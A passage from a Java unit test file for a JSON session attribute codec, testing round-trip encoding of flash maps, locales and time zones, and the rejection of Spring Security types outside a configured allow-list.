		AttributeCodec.EncodedAttribute encoded = this.defaults.encode(name, stored);

		assertThat(encoded.value()).asString(StandardCharsets.UTF_8)
			.startsWith("[{\"@class\":\"FlashMap\","
					+ "\"targetRequestPath\":\"/orders/42\",\"targetRequestParams\":{\"view\":[\"full\"]},"
					+ "\"expirationTime\":" + flashMap.getExpirationTime() + ",\"attributes\":{");
		List<?> decoded = (List<?>) decode(this.defaults, name, encoded);
		assertThat(decoded).isEqualTo(stored).hasSameClassAs(stored).singleElement().satisfies((element) -> {
			FlashMap map = (FlashMap) element;
			assertThat(map.getExpirationTime()).isEqualTo(flashMap.getExpirationTime());
			assertThat(map.get("orderId")).isEqualTo(42L);
		});
	}

	@Test
	void localeAndTimeZoneFromSessionLocaleResolverRoundTrip() {
		MockHttpServletRequest request = new MockHttpServletRequest();
		new SessionLocaleResolver().setLocaleContext(request, new MockHttpServletResponse(),
				new SimpleTimeZoneAwareLocaleContext(Locale.CANADA_FRENCH, TimeZone.getTimeZone("America/Toronto")));
		Object locale = request.getSession().getAttribute(SessionLocaleResolver.LOCALE_SESSION_ATTRIBUTE_NAME);
		Object timeZone = request.getSession().getAttribute(SessionLocaleResolver.TIME_ZONE_SESSION_ATTRIBUTE_NAME);

		assertThat(this.defaults.encode("locale", locale).value()).asString(StandardCharsets.UTF_8)
			.isEqualTo("\"fr-CA\"");
		assertThat(roundTrip(this.defaults, "locale", locale)).isEqualTo(Locale.CANADA_FRENCH);
		assertThat(this.defaults.encode("timeZone", timeZone).type()).isEqualTo("java.util.TimeZone");
		assertThat(roundTrip(this.defaults, "timeZone", timeZone)).isEqualTo(timeZone);
	}

	@Test
	void withoutSpringSecurityOnTheClassPathBasicTypesWorkAndSecurityTypesAreRejected() throws Exception {
		URL[] urls = Arrays.stream(System.getProperty("java.class.path").split(File.pathSeparator))
			.filter((entry) -> !entry.contains("spring-security") && !entry.contains("spring-webmvc"))
			.map(JsonAttributeCodecTests::toUrl)
			.toArray(URL[]::new);
		try (URLClassLoader isolated = new URLClassLoader(urls, ClassLoader.getPlatformClassLoader())) {
			assertThat(isolated.getResource("org/springframework/security/jackson/SecurityJacksonModules.class"))
				.isNull();
			Class<?> codecClass = isolated.loadClass(JsonAttributeCodec.class.getName());
			Object codec = codecClass.getMethod("withDefaults").invoke(null);
			Method encode = codecClass.getMethod("encode", String.class, Object.class);
			Method decode = codecClass.getMethod("decode", String.class, byte[].class, String.class);

			Object encoded = encode.invoke(codec, "page_views", 3L);
			byte[] value = (byte[]) encoded.getClass().getMethod("value").invoke(encoded);
			assertThat(new String(value, StandardCharsets.UTF_8)).isEqualTo("3");
			assertThat(decode.invoke(codec, "page_views", value, "java.lang.Long")).isEqualTo(3L);
			assertThatExceptionOfType(InvocationTargetException.class)
				.isThrownBy(() -> decode.invoke(codec, "SPRING_SECURITY_CONTEXT",
						"{\"authentication\":null}".getBytes(StandardCharsets.UTF_8),
						"org.springframework.security.core.context.SecurityContextImpl"))
				.havingCause()
				.withMessage("Session attribute 'SPRING_SECURITY_CONTEXT' of type "
						+ "org.springframework.security.core.context.SecurityContextImpl cannot be decoded: type "
						+ "org.springframework.security.core.context.SecurityContextImpl is not allowed; allow it with "
						+ "JsonAttributeCodec.builder().allowTypes(...) or allowPackages(...)");
		}
	}

	private static Object roundTrip(AttributeCodec codec, String name, Object value) {
		return decode(codec, name, codec.encode(name, value));
	}

	private static Object decode(AttributeCodec codec, String name, AttributeCodec.EncodedAttribute encoded) {
		return codec.decode(name, encoded.value(), encoded.type());
	}

	private static URL toUrl(String entry) {
		try {
			return new File(entry).toURI().toURL();
		}
		catch (Exception ex) {
			throw new IllegalStateException(ex);
		}
	}

	record Item(@Nullable String sku, int quantity) {
	}

	record Cart(List<Item> items, BigDecimal total, Instant updatedAt) {
	}

	enum Color {

		RED, GREEN

	}

	enum Operation {

		PLUS {
			@Override
			int apply(int left, int right) {
				return left + right;
			}
		};

		abstract int apply(int left, int right);

	}

	interface Shape {

	}

	record Circle(double radius) implements Shape {
	}

	record Square(int side) implements Shape {
	}

	record Drawing(List<Shape> shapes) {
	}

	static class Customer {

		private @Nullable String name;

		private List<Object> tags = new ArrayList<>();

		public @Nullable String getName() {
			return this.name;
		}

		public void setName(@Nullable String name) {
			this.name = name;
		}

		public List<Object> getTags() {
			return this.tags;
		}

		public void setTags(List<Object> tags) {
			this.tags = tags;
		}

		@Override
		public boolean equals(Object other) {
			return other instanceof Customer customer && Objects.equals(this.name, customer.name)
					&& this.tags.equals(customer.tags);
		}

		@Override
		public int hashCode() {
			return Objects.hash(this.name, this.tags);
		}

	}

	static class Opaque {

	}

	static class Exploding {

		public String getValue() {
			throw new IllegalStateException("boom");
		}

	}

	static class RecordingClassLoader extends ClassLoader {

		final List<String> requested = new CopyOnWriteArrayList<>();

		RecordingClassLoader(ClassLoader parent) {
			super(parent);
		}

		@Override
		protected Class<?> loadClass(String name, boolean resolve) throws ClassNotFoundException {
			this.requested.add(name);
			return super.loadClass(name, resolve);
		}

	}

	static class Node {

		private @Nullable Node next;

		public @Nullable Node getNext() {
			return this.next;
		}

		public void setNext(@Nullable Node next) {
			this.next = next;
		}

	}

	static class Witness {

		static {
			witnessInitialized.set(true);
		}

		public String value = "";

	}

}
